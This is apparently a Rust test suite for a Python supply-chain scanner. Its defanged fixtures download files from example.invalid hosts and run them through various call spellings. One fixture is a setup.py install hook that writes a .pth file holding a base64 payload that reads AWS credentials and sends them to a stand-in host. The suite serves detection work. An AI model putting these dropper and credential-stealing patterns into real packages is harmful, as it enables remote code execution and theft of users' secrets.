//! Droppers and call spellings tester t11 found graded too low: a file downloaded and run at
//! load through runners other than a process (`os.startfile`, `ShellExecuteW`, a ctypes
//! library load, an import from a folder put on `sys.path`), downloaded data reaching a file
//! other ways (a temporary file's handle, `mkstemp`'s descriptor, `copyfileobj` from a response
//! opened by `with`, a downloader's output folder, an archive extracted from a download), and a
//! download and a run in two functions both called at load. Fixtures are written here,
//! defanged (commands only `echo`, hosts under `example.invalid`), and scanned; nothing is
//! executed. Benign look-alikes stay below medium.

use airlock::finding::Severity;

#[path = "support/pysrc.rs"]
mod pysrc;
use pysrc::{benign, check, evidence_summary as summary, scan, worst};

const EXEC: &str = "python-exec-computed";

/// Runners that are no process call: the file is opened with its program, its library loaded,
/// or its module imported from a folder the code put on `sys.path` (t11 dr00, dr15–dr18).
#[test]
fn files_run_by_startfile_shellexecute_ctypes_and_import_are_droppers() {
    use Severity::*;
    check(&[
        ("demo/__init__.py", "import os, urllib.request\np = os.path.join(os.environ.get('TEMP', '/tmp'), 'x.exe')\nurllib.request.urlretrieve('https://c.example.invalid/x', p)\nos.startfile(p)\n", EXEC, Some(Critical)),
        ("demo/__init__.py", "import ctypes, urllib.request\nurllib.request.urlretrieve('https://c.example.invalid/x', 'C:/Users/Public/x.exe')\nctypes.windll.shell32.ShellExecuteW(None, 'open', 'C:/Users/Public/x.exe', None, None, 0)\n", EXEC, Some(Critical)),
        ("demo/__init__.py", "import ctypes, urllib.request\nurllib.request.urlretrieve('https://c.example.invalid/x', '/tmp/x.so')\nctypes.CDLL('/tmp/x.so')\n", EXEC, Some(Critical)),
        ("demo/__init__.py", "from ctypes import cdll\nimport urllib.request\nurllib.request.urlretrieve('https://c.example.invalid/x', '/tmp/x.so')\ncdll.LoadLibrary('/tmp/x.so')\n", EXEC, Some(Critical)),
        ("demo/__init__.py", "import sys, urllib.request\nurllib.request.urlretrieve('https://c.example.invalid/x', '/tmp/xmod.py')\nsys.path.insert(0, '/tmp')\nimport xmod\n", EXEC, Some(Critical)),
        ("demo/__init__.py", "import sys, importlib, urllib.request\nurllib.request.urlretrieve('https://c.example.invalid/x', '/tmp/xmod.py')\nsys.path.insert(0, '/tmp')\nimportlib.import_module('xmod')\n", EXEC, Some(Critical)),
        // A folder that is not a constant: the file joined onto its name.
        ("demo/__init__.py", "import os, sys, tempfile, urllib.request\nd = tempfile.mkdtemp()\nurllib.request.urlretrieve('https://c.example.invalid/m', os.path.join(d, 'm.py'))\nsys.path.append(d)\nfrom m import run\n", EXEC, Some(Critical)),
        // `os.startfile` of the download in a function nothing calls: a tool on request.
        ("demo/tools.py", "import os, urllib.request\ndef show(url):\n    urllib.request.urlretrieve(url, 'r.pdf')\n    os.startfile('r.pdf')\n", EXEC, Some(Low)),
        // Another module imported after the folder was put on `sys.path`.
        ("demo/__init__.py", "import sys, urllib.request\nurllib.request.urlretrieve('https://c.example.invalid/x', '/tmp/xmod.py')\nsys.path.insert(0, '/tmp')\nimport json\n", EXEC, None),
        // The folder put on `sys.path` is not where the file went.
        ("demo/__init__.py", "import sys, urllib.request\nurllib.request.urlretrieve('https://c.example.invalid/x', '/tmp/xmod.py')\nsys.path.insert(0, '/opt/lib')\nimport xmod\n", EXEC, None),
    ]);
}

/// Downloaded data reaching a file through a temporary file's handle or descriptor, a response
/// opened by `with` and copied, a downloader's output folder, and an archive extracted from a
/// download (t11 dr04, dr05, dr06, dr10, dr11).
#[test]
fn downloads_through_handles_folders_and_archives_are_droppers() {
    use Severity::*;
    check(&[
        ("demo/__init__.py", "import os, subprocess, tempfile, requests\nf = tempfile.NamedTemporaryFile(delete=False)\nf.write(requests.get('https://c.example.invalid/x').content)\nf.close()\nos.chmod(f.name, 0o755)\nsubprocess.Popen([f.name])\n", EXEC, Some(Critical)),
        ("demo/__init__.py", "import subprocess, tempfile, requests\nwith tempfile.NamedTemporaryFile(delete=False, suffix='.exe') as f:\n    f.write(requests.get('https://c.example.invalid/x').content)\nsubprocess.Popen([f.name])\n", EXEC, Some(Critical)),
        ("demo/__init__.py", "import os, subprocess, tempfile, requests\nfd, p = tempfile.mkstemp()\nos.write(fd, requests.get('https://c.example.invalid/x').content)\nos.close(fd)\nos.chmod(p, 0o755)\nsubprocess.Popen([p])\n", EXEC, Some(Critical)),
        ("demo/__init__.py", "import os, subprocess, tempfile, urllib.request\nfd, p = tempfile.mkstemp()\nwith os.fdopen(fd, 'wb') as out:\n    out.write(urllib.request.urlopen('https://c.example.invalid/x').read())\nsubprocess.call(['sh', p])\n", EXEC, Some(Critical)),
        ("demo/__init__.py", "import os, shutil, subprocess, urllib.request\nwith urllib.request.urlopen('https://c.example.invalid/x') as r, open('/tmp/x', 'wb') as f:\n    shutil.copyfileobj(r, f)\nos.chmod('/tmp/x', 0o755)\nsubprocess.call('/tmp/x')\n", EXEC, Some(Critical)),
        ("demo/__init__.py", "import subprocess\nsubprocess.run(['wget', '-P', '/tmp', 'https://c.example.invalid/x'])\nsubprocess.run(['sh', '/tmp/x'])\n", EXEC, Some(Critical)),
        ("demo/__init__.py", "import subprocess\nsubprocess.run(['wget', '--directory-prefix=/tmp/c', 'https://c.example.invalid/x'])\nsubprocess.run(['/tmp/c/x'])\n", EXEC, Some(Critical)),
        ("demo/__init__.py", "import subprocess\nsubprocess.run(['curl', '-sL', '--output-dir', '/tmp/c', '-O', 'https://c.example.invalid/x'])\nsubprocess.run(['/tmp/c/x'])\n", EXEC, Some(Critical)),
        ("demo/__init__.py", "import subprocess, zipfile, urllib.request\nurllib.request.urlretrieve('https://c.example.invalid/x', '/tmp/x.zip')\nzipfile.ZipFile('/tmp/x.zip').extractall('/tmp/xd')\nsubprocess.Popen(['/tmp/xd/run'])\n", EXEC, Some(Critical)),
        ("demo/__init__.py", "import os, zipfile, urllib.request\nurllib.request.urlretrieve('https://c.example.invalid/x', '/tmp/a.zip')\nwith zipfile.ZipFile('/tmp/a.zip') as z:\n    z.extractall('/tmp/a')\nos.startfile('/tmp/a/x.exe')\n", EXEC, Some(Critical)),
        ("demo/__init__.py", "import shutil, subprocess, urllib.request\nurllib.request.urlretrieve('https://c.example.invalid/x', '/tmp/a.zip')\nshutil.unpack_archive('/tmp/a.zip', '/tmp/b')\nsubprocess.call(['/tmp/b/y'])\n", EXEC, Some(Critical)),
        ("demo/__init__.py", "import io, tarfile, subprocess, requests\nr = requests.get('https://c.example.invalid/x.tgz')\ntarfile.open(fileobj=io.BytesIO(r.content)).extractall('/tmp/t')\nsubprocess.Popen(['/tmp/t/bin/run'])\n", EXEC, Some(Critical)),
        // A run of a file outside the extracted folder.
        ("demo/__init__.py", "import subprocess, zipfile, urllib.request\nurllib.request.urlretrieve('https://c.example.invalid/x', '/tmp/x.zip')\nzipfile.ZipFile('/tmp/x.zip').extractall('/opt/xd')\nsubprocess.Popen(['/opt/xdd/run'])\n", EXEC, None),
        // The archive extracted is not the one downloaded.
        ("demo/__init__.py", "import subprocess, zipfile, urllib.request\nurllib.request.urlretrieve('https://c.example.invalid/x', '/tmp/x.zip')\nzipfile.ZipFile('/opt/y.zip').extractall('/opt/xd')\nsubprocess.Popen(['/opt/xd/run'])\n", EXEC, None),
    ]);
}

/// A download in one function and a run in another, both called at load: the file named by a
/// constant or a module-level name (t11 dr14). Locals of the same spelling in two functions
/// are two files.
#[test]
fn downloads_and_runs_in_two_functions_called_at_load_are_droppers() {
    use Severity::*;
    check(&[
        ("demo/__init__.py", "import os, subprocess, urllib.request\nP = '/tmp/x'\ndef dl():\n    urllib.request.urlretrieve('https://c.example.invalid/x', P)\ndef run():\n    os.chmod(P, 0o755)\n    subprocess.Popen([P])\ndl()\nrun()\n", EXEC, Some(High)),
        ("demo/__init__.py", "import os, subprocess, tempfile, urllib.request\nP = os.path.join(tempfile.gettempdir(), 'x')\ndef run():\n    subprocess.Popen([P])\ndef dl():\n    urllib.request.urlretrieve('https://c.example.invalid/x', P)\ndl()\nrun()\n", EXEC, Some(High)),
        // The run's function is never called at load.
        ("demo/__init__.py", "import subprocess, urllib.request\nP = '/opt/x'\ndef dl():\n    urllib.request.urlretrieve('https://c.example.invalid/x', P)\ndef run():\n    subprocess.Popen([P])\ndl()\n", EXEC, None),
        // Two locals named alike.
        ("demo/__init__.py", "import os, subprocess, tempfile, urllib.request\ndef fetch():\n    p = os.path.join(tempfile.gettempdir(), 'model.bin')\n    urllib.request.urlretrieve('https://c.example.invalid/x', p)\ndef build():\n    p = 'make'\n    subprocess.call([p])\nfetch()\nbuild()\n", EXEC, None),
        ("demo/__init__.py", "import subprocess, urllib.request\ndef get(url, p):\n    urllib.request.urlretrieve(url, p)\ndef run(p):\n    subprocess.call([p])\nget('https://c.example.invalid/x', 'data.bin')\nrun('ls')\n", EXEC, None),
    ]);
}

/// What the droppers above must not catch.
#[test]
fn downloads_not_run_and_own_files_stay_below_medium() {
    benign(&[
        // A prebuilt tarball fetched at install and extracted, never run.
        ("demo/__init__.py", "import os, tarfile, urllib.request\ndef fetch():\n    urllib.request.urlretrieve('https://c.example.invalid/prebuilt.tar.gz', 'prebuilt.tar.gz')\n    with tarfile.open('prebuilt.tar.gz') as t:\n        t.extractall('lib')\n"),
        // The package's own submodules, imported by name.
        ("demo/__init__.py", "import importlib\nfor name in ('core', 'utils', 'io'):\n    importlib.import_module('.' + name, __name__)\nfor name in ['demo.core', 'demo.utils']:\n    importlib.import_module(name)\n"),
        // The package's own library.
        ("demo/__init__.py", "import ctypes, os\n_lib = ctypes.CDLL(os.path.join(os.path.dirname(__file__), 'libx.so'))\n"),
        ("demo/__init__.py", "import os, sys\nsys.path.insert(0, os.path.dirname(__file__))\nimport _vendored\n"),
        // Opening a file on request.
        ("demo/__init__.py", "import os\ndef open_report(path):\n    os.startfile(path)\n"),
    ]);
    // At install the download stays what it is alone: network at install, medium.
    let r = scan(
        "setup.py",
        "import tarfile, urllib.request\nfrom setuptools import setup\nurllib.request.urlretrieve('https://c.example.invalid/prebuilt.tar.gz', 'prebuilt.tar.gz')\nwith tarfile.open('prebuilt.tar.gz') as t:\n    t.extractall('demo/lib')\nsetup(name='demo')\n",
    );
    assert_eq!(worst(&r, EXEC), None, "{:#?}", summary(&r));
    assert_eq!(r.worst(), Some(Severity::Medium), "{:#?}", summary(&r));
}

/// Many runs, folders and imports cost each a bounded amount: a function with thousands of
/// process calls on a parameter (whose locality is told once), thousands of distinct imports
/// after many folders were put on `sys.path` and filled by downloads.
#[test]
fn dropper_bookkeeping_stays_bounded_on_hostile_sources() {
    const BOUND: std::time::Duration = std::time::Duration::from_secs(60);
    let n = 20_000;
    let runs = format!(
        "import subprocess, urllib.request\ndef f(p):\n    urllib.request.urlretrieve('https://x.example.invalid', '/tmp/q')\n{}f(1)\n",
        "    subprocess.call([p])\n".repeat(n)
    );
    let mut imports = String::from("import sys, subprocess, urllib.request\n");
    for i in 0..100 {
        imports.push_str(&format!(
            "subprocess.run(['wget', '-P', '/tmp/d{i}', 'https://x.example.invalid'])\nsys.path.insert(0, '/tmp/e{i}')\nurllib.request.urlretrieve('https://x.example.invalid', '/tmp/e{i}/m{i}.py')\n"
        ));
    }
    for i in 0..n {
        imports.push_str(&format!("import a{i}\n"));
    }
    for (case, src) in [("runs", runs), ("imports", imports)] {
        let t = std::time::Instant::now();
        let r = scan("setup.py", &src);
        assert!(t.elapsed() < BOUND, "{case}: {:?}", t.elapsed());
        assert!(!r.io_error, "{case}");
    }
}

/// A program run from a folder any user or process can write (a temporary folder, Windows'
/// Public or ProgramData folders, a downloads folder) at load runs whatever was put there,
/// downloaded by this code or not (tester t12 q22): high at load, low inside a function
/// nothing calls. Programs of the system or of the package stay unreported.
#[test]
fn programs_run_from_folders_others_can_write_are_high_at_load() {
    use Severity::*;
    check(&[
        ("demo/__init__.py", "import os\nos.startfile('C:\\\\Users\\\\Public\\\\a.exe')\n", EXEC, Some(High)),
        ("demo/__init__.py", "import subprocess\nsubprocess.Popen(['/tmp/.x/agent', '--quiet'])\n", EXEC, Some(High)),
        ("demo/__init__.py", "import os\nos.spawnl(os.P_NOWAIT, '/dev/shm/a.out', 'a.out')\n", EXEC, Some(High)),
        ("demo/__init__.py", "import ctypes\nctypes.CDLL('C:/ProgramData/svc/helper.dll')\n", EXEC, Some(High)),
        ("demo/__init__.py", "import subprocess\ndef _go():\n    subprocess.Popen(['%TEMP%\\\\u.exe'])\n_go()\n", EXEC, Some(High)),
        ("demo/tools.py", "import subprocess\ndef run_cached():\n    subprocess.run(['/tmp/tool-cache/bin/tool', '--version'])\n", EXEC, Some(Low)),
        ("demo/__init__.py", "import subprocess\nsubprocess.run(['/usr/bin/nvidia-smi', '-L'])\n", EXEC, None),
        ("demo/__init__.py", "import ctypes, os\nctypes.CDLL(os.path.join(os.path.dirname(__file__), 'libdemo.so'))\n", EXEC, None),
    ]);
}

/// `pip install` started at load runs the build of whatever the index or server sends (t12
/// r07, q24): high from a URL, a VCS link or another index, medium for names from the default
/// index; inside a function nothing calls at load it is not reported.
#[test]
fn pip_install_at_load_is_network_at_load() {
    use Severity::*;
    const NET: &str = "python-network-at-load";
    check(&[
        ("demo/__init__.py", "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', '-q', 'https://x.example.invalid/helper-1.0.tar.gz'])\n", NET, Some(High)),
        ("demo/__init__.py", "import subprocess\nsubprocess.run(['pip3', 'install', 'git+https://git.example.invalid/h.git'])\n", NET, Some(High)),
        ("demo/__init__.py", "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'install', '--index-url=https://pypi.example.invalid/simple', 'helper'])\n", NET, Some(High)),
        ("demo/__init__.py", "import subprocess, sys\ntry:\n    import yaml\nexcept ImportError:\n    subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'pyyaml'])\n", NET, Some(Medium)),
        ("demo/extras.py", "import subprocess, sys\ndef ensure(pkg):\n    subprocess.check_call([sys.executable, '-m', 'pip', 'install', pkg])\n", NET, None),
        ("demo/__init__.py", "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'list', '--format=json'])\n", NET, None),
    ]);
}

/// A `.pth` written through a handle (`with open(P, 'w') as f: f.write(CODE)`) in an install
/// hook: its text is analysed as the code it will run at every interpreter start (tester t21
/// pthdrop: the handed `.pth` payload moved into `setup.py`). A path line written so is only
/// the write.
#[test]
fn a_pth_written_through_a_handle_is_analysed_as_code() {
    let setup = "import os, sysconfig\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\nclass PostInstall(install):\n    def run(self):\n        install.run(self)\n        with open(os.path.join(sysconfig.get_paths()['purelib'], 'zz-telemetry.pth'), 'w') as f:\n            f.write(\"import base64;exec(base64.b64decode('aW1wb3J0IG9zLHVybGxpYi5yZXF1ZXN0CmQ9b3Blbihvcy5wYXRoLmV4cGFuZHVzZXIoJ34vLmF3cy9jcmVkZW50aWFscycpKS5yZWFkKCkKdXJsbGliLnJlcXVlc3QudXJsb3BlbignaHR0cHM6Ly9jLmV4YW1wbGUuaW52YWxpZC91JyxkLmVuY29kZSgpKQo='))\\n\")\n\nsetup(name='x', version='1.0', cmdclass={'install': PostInstall})\n";
    let r = scan("x-1.0/setup.py", setup);
    assert_eq!(
        worst(&r, "python-credential-stealer"),
        Some(Severity::Critical),
        "{:#?}",
        summary(&r)
    );
    let path_line = setup.replace("import base64;exec(base64.b64decode('aW1wb3J0IG9zLHVybGxpYi5yZXF1ZXN0CmQ9b3Blbihvcy5wYXRoLmV4cGFuZHVzZXIoJ34vLmF3cy9jcmVkZW50aWFscycpKS5yZWFkKCkKdXJsbGliLnJlcXVlc3QudXJsb3BlbignaHR0cHM6Ly9jLmV4YW1wbGUuaW52YWxpZC91JyxkLmVuY29kZSgpKQo='))", "/opt/x/lib");
    let r = scan("x-1.0/setup.py", &path_line);
    assert!(
        r.worst().is_some_and(|w| w < Severity::High),
        "{:#?}",
        summary(&r)
    );
}
